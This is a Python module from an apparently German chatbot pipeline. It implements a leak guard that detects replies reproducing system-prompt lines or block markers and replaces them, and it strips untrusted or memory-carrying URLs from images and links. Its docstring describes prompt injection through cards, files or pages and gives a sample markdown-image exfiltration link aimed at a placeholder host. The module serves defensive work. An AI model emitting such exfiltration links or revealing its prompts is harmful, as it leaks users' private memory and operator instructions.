"""leckschutz: the deterministic leak guard, after the tribunal loop and before the reply leaves.

A reply that reproduces what the model was told — a line of the system message the responder,
the Thinker or the corrector sent in this turn, as rendered (`trace.system_prompts`), of the
prompt templates whose text can reach the reply (theirs and [FAKTEN]: the per-turn instructions
stand in the user message) or of the character's record, 20 characters or more, or a sentence
of such a line of 20 characters and five words or more — or a block marker of any prompt
("[REGELN]", "[PERSON A — …]") is caught without a model: `leckschutz.pruefung = leck`, with what was found. Text is compared as
words (case, umlauts, punctuation and quotes aside), so a reworded comma does not hide a line and
"ich erfinde keine Details" is no leak of "erfinde keine Details" (a sentence of four words).
What the human wrote himself is no leak: a fragment or marker that stands in his message is not
counted.

A caught reply is replaced, in this order, each named in the log and in `leckschutz.ergebnis`:
`korrigiert` — the corrector's rewrite (`corrector.umschreiben`, the leak as its defect, with the
budget of the reply it rewrites: the turn's span), when it is clean; `bereinigt` — the reply
without the leaked sentences and markers, when something of it is left and clean;
`ersatzantwort` — ERSATZ_ANTWORT. The replacement goes to `urteil.reply`, which `current_reply` —
and so the dispatcher's commit — takes first.

A node that runs remote (`Settings.remote_nodes`) returns the system messages it sent with its
result, so they are compared as well. Where the responder's is missing all the same (it sent none
in this turn), its templates and the pair's record stand in (`fallback vorlagen` in the log,
`systemprompts` in the decision entry). Not covered, on purpose: the history and the per-turn
material (memory, notes, the Verfasser's content) — the reply may and should repeat what they say.

Then the reply's images and links (`pipeline.links`, the web_fetch tool's rule): one whose URL is
not one of the turn's own sources — a URL the person wrote in the conversation, a search result of
the sachlage — or carries memory text is neutralised (link and alt text stay, the URL goes), so
text injected through a card, a file or a page cannot have a rendering client load or offer
`![x](https://host/?d=<memory>)`. Logged as `links_entschaerft` with counts by kind and reason (never
a URL), `leckschutz.links` in the decision log; a reply of nothing but such URLs becomes
ERSATZ_ANTWORT (`links_ersatzantwort`).
"""
from __future__ import annotations

import logging
import re
import string
from functools import lru_cache

from pipeline.figur import einsetzen, sein_name
from pipeline.links import ARTEN, LinkRegel, entschaerfen
from pipeline.node import Node
from pipeline.nodes.corrector import umschreiben
from pipeline.services import Deps
from core.state import TurnState, UrteilRecord, current_reply

NAME = "leckschutz"
NODE = Node(
    name=NAME,
    reads=("stimulus", "pair", "memory", "kontext", "sachlage", "route", "plan", "haltung", "draft", "pruefung",
           "urteil"),
    writes=("urteil",),
)
QUELLEN = ("responder", "thinker", "thinker_nachfass", "corrector", "fakten")
"""The prompts whose text can reach the reply: it is written, rewritten or corrected from them."""
MIN_ZEICHEN = 20
MIN_WOERTER = 5
"""A sentence out of a longer line counts from five words: shorter ones are common speech."""
PAAR_TEXTE = ("identitaet", "szenario", "sprechweise", "beispieldialog", "charakter_anweisung", "nova_kern",
              "nova_adaptiv", "nova_emotions", "nova_intentionen", "nova_beziehung", "mensch_kern", "mensch_beziehung",
              "mensch_themen")
CODE_MARKER = ("WERKZEUG-ERGEBNIS", "ENDE WERKZEUG-ERGEBNIS")
"""Markers the nodes write in code, not in a prompt file (the Thinker's tool results)."""
ERSATZ_ANTWORT = "Hmm... da ist mir gerade etwas durcheinandergeraten."
"""Neutral on purpose, like the Thinker's gesture: no form of address a directive could forbid."""
GRUND = "gibt interne Anweisungen wieder; nur die Antwort an Person B bleibt"

log = logging.getLogger("novaberg.node.leckschutz")

_UMLAUTE = str.maketrans({"ä": "ae", "ö": "oe", "ü": "ue", "ß": "ss"})
_NICHT_WORT = re.compile(r"[^a-z0-9]+")
_SAETZE = re.compile(r"(?<=[.!?])\s+")
_BLOCK = re.compile(r"^\s*\[([^\]\n]+)\]", re.M)


def norm(text: str) -> str:
    """The words of a text: lower case, umlauts written out (the prompts write them so), every
    run of other characters one space."""
    return _NICHT_WORT.sub(" ", text.lower().translate(_UMLAUTE)).strip()


def fragmente(texte) -> set[str]:
    """Every line of the texts of at least MIN_ZEICHEN characters, and every sentence of a line
    with MIN_ZEICHEN characters and MIN_WOERTER words, normalised; line-start block markers are
    cut out first (they are matched apart)."""
    out = set()
    for text in texte:
        for zeile in _BLOCK.sub("", text).split("\n"):
            if len(norm(zeile)) >= MIN_ZEICHEN:
                out.add(norm(zeile))
            for satz in _SAETZE.split(zeile):
                f = norm(satz)
                if len(f) >= MIN_ZEICHEN and len(f.split()) >= MIN_WOERTER:
                    out.add(f)
    return out


def statisch(vorlage: str, name: str) -> list[str]:
    """The literal text of a prompt template with the character's name filled in, cut at every
    other placeholder (what it holds changes from turn to turn)."""
    stuecke, cur = [], ""
    for literal, feld, _, _ in string.Formatter().parse(vorlage):
        cur += literal
        if feld == "character_name":
            cur += name
        elif feld is not None:
            stuecke.append(cur)
            cur = ""
    return stuecke + [cur]


@lru_cache(maxsize=64)
def _vorlagen(prompts, model: str, name: str) -> frozenset[str]:
    teile = {tuple(p.name.split(".")[:2]) for p in prompts.all_files()}
    texte = [t for node, part in sorted(teile) if node in QUELLEN
             for t in statisch(prompts.path(node, part, model)[0].read_text(encoding="utf-8"), name)]
    return frozenset(fragmente(texte))


@lru_cache(maxsize=8)
def _marker(prompts) -> re.Pattern:
    namen = set(CODE_MARKER)
    for p in prompts.all_files():
        for m in _BLOCK.finditer(p.read_text(encoding="utf-8")):
            if "{" not in m.group(1) and len(m.group(1).strip()) >= 4:  # a short bracket may be her own
                namen |= {m.group(1).strip(), m.group(1).split(" — ")[0].strip()}
    alt = "|".join(re.escape(n) for n in sorted(namen, key=len, reverse=True))
    return re.compile(r"\[\s*(?:" + alt + r")(?![A-Za-zÄÖÜäöüß])[^\]\n]{0,80}\]", re.IGNORECASE)


def muster(deps: Deps, model: str, pair, person: str = "") -> tuple[frozenset[str], re.Pattern, list[str]]:
    """What a reply must not reproduce — the fragments of the system messages the writing nodes
    sent in this turn (as rendered), of their prompt templates and of the pair's record (its card
    placeholders filled as "Person B" and, when known, as his name `person`) — the marker pattern,
    and which nodes' rendered system messages were seen."""
    name = pair.character_name
    gesehen = [n for n in QUELLEN if n in deps.trace.system_prompts]
    texte = [deps.trace.system_prompts[n] for n in gesehen]
    for wer in dict.fromkeys(["Person B", person or "Person B"]):
        texte += [einsetzen(getattr(pair, f), name, wer) for f in PAAR_TEXTE]
        texte += [einsetzen(x, name, wer) for x in pair.direktiven + pair.anweisungen]
    return _vorlagen(deps.prompts, model, name) | fragmente(texte), _marker(deps.prompts), gesehen


def pruefen(reply: str, frags, marker: re.Pattern, reiz: str) -> list[str]:
    """The leaks in a reply, longest first, a fragment inside a found one not again."""
    r, eigen = f" {norm(reply)} ", f" {norm(reiz)} "
    funde = [f"Blockmarkierung {m.group(0)}" for m in marker.finditer(reply) if m.group(0) not in reiz]
    zeilen: list[str] = []
    for f in sorted(frags, key=len, reverse=True):
        if f" {f} " in r and f" {f} " not in eigen and not any(f in z for z in zeilen):
            zeilen.append(f)
    return funde + [f"Prompt-Zeile »{z}«" for z in zeilen]


def bereinigen(reply: str, frags, marker: re.Pattern, reiz: str) -> str:
    """The reply without its markers and without every sentence that holds a leaked fragment;
    "" when nothing clean is left."""
    zeilen = []
    for zeile in marker.sub("", reply).split("\n"):
        saetze = [s for s in _SAETZE.split(zeile.strip()) if s and not pruefen(s, frags, marker, reiz)]
        if saetze:
            zeilen.append(" ".join(saetze))
    rest = "\n".join(zeilen).strip()
    return rest if len(norm(rest)) >= 2 and not pruefen(rest, frags, marker, reiz) else ""


async def ersetzen(state: TurnState, deps: Deps, reply: str, funde: list[str], frags, marker) -> tuple[str, str, dict]:
    """The replacement of a leaking reply: (text, outcome, inputs for the decision entry)."""
    reiz = state.stimulus.text
    text, antwort = await umschreiben(deps, state, reply, [GRUND, *funde[:3]])
    rest_funde = pruefen(text, frags, marker, reiz) if text else []
    inputs = {"korrektor": antwort if text is None else ("leckt" if rest_funde else "sauber")}
    if text and not rest_funde:
        return text, "korrigiert", inputs
    rest = bereinigen(reply, frags, marker, reiz)
    if rest:
        log.warning("leckschutz: fallback bereinigt: the corrector gave no clean reply (%s); the leaked "
                    "sentences and markers are cut out (%d of %d characters stay)", inputs["korrektor"],
                    len(rest), len(reply))
        return rest, "bereinigt", inputs
    log.warning("leckschutz: fallback ersatzantwort: no clean reply (corrector %s, nothing clean left of the "
                "reply); the neutral replacement goes out", inputs["korrektor"])
    return ERSATZ_ANTWORT, "ersatzantwort", inputs


def link_regel(state: TurnState) -> LinkRegel:
    """The turn's own sources and the memory text in its prompt (`pipeline.links`): the URLs the
    person wrote in this message and in the session's turns, the sachlage's search results; the
    memory as the reducer shaped it and the person's profiles."""
    person = [state.stimulus.user_prompt or ""]
    person += [t.inhalt for t in (state.memory.session_turns if state.memory else []) if t.rolle == "user"]
    quellen = [h.get("url", "") for o in (state.sachlage.objekte if state.sachlage else [])
               for h in o.recherche or [] if isinstance(h, dict)]
    k, p = state.kontext, state.pair
    erinnerungen = [k.gedaechtnis_verfasser, k.gedaechtnis_thinker, k.gedaechtnis_tribunal] if k else []
    erinnerungen += [p.mensch_kern, p.mensch_beziehung, p.mensch_themen, p.nova_beziehung] if p else []
    return LinkRegel(person, quellen, erinnerungen)


def links_pruefen(state: TurnState, deps: Deps, reply: str) -> str:
    """The reply with every image and link whose URL is not one of the turn's own sources, or
    carries memory text, neutralised (`pipeline.links`); logged by name with counts, never a URL."""
    neu, zahlen = entschaerfen(reply, link_regel(state))
    if not zahlen:
        return reply
    outcome = "entschaerft" if neu.strip() else "ersatzantwort"
    arten = {a: zahlen[a] for a in ARTEN if zahlen[a]}
    gruende = {g: n for g, n in zahlen.items() if g not in ARTEN}
    log.warning("leckschutz: fallback links_%s: turn %s: %s neutralised (%s); link and alt text stay",
                outcome, state.stimulus.turn_id, ", ".join(f"{n} {a}" for a, n in arten.items()),
                ", ".join(f"{g} {n}" for g, n in gruende.items()))
    deps.trace.decision(NAME, "leckschutz.links", outcome, {**arten, "gruende": gruende, "zeichen_vorher": len(reply),
                                                            "zeichen_nachher": len(neu)})
    return neu if neu.strip() else ERSATZ_ANTWORT


async def prompt_leck(state: TurnState, deps: Deps, reply: str) -> str:
    """The reply, or its replacement when it reproduces the prompt."""
    model = await deps.llm.model_name()
    frags, marker, gesehen = muster(deps, model, state.pair, sein_name(state))
    if "responder" not in gesehen:
        log.info("leckschutz: fallback vorlagen: the responder's rendered system prompt was not seen in this turn "
                 "(it sent none); its templates and the pair's record stand in")
    funde = pruefen(reply, frags, marker, state.stimulus.text)
    deps.trace.decision(NAME, "leckschutz.pruefung", "leck" if funde else "sauber",
                        {"funde": funde[:5], "zahl": len(funde), "zeichen": len(reply), "muster": len(frags),
                         "systemprompts": gesehen}, threshold=MIN_ZEICHEN)
    if not funde:
        return reply
    log.warning("leckschutz: the reply of turn %s reproduces the prompt: %d findings %s", state.stimulus.turn_id,
                len(funde), deps.settings.said("; ".join(funde[:3])))
    neu, outcome, inputs = await ersetzen(state, deps, reply, funde, frags, marker)
    deps.trace.decision(NAME, "leckschutz.ergebnis", outcome, {**inputs, "zeichen_vorher": len(reply),
                                                               "zeichen_nachher": len(neu)})
    return neu


@NODE.runs
async def run(state: TurnState, deps: Deps) -> dict:
    reply = current_reply(state)
    neu = links_pruefen(state, deps, await prompt_leck(state, deps, reply))
    if neu == reply:
        return {}
    u = state.urteil or UrteilRecord()
    return {"urteil": u.model_copy(update={"reply": neu})}
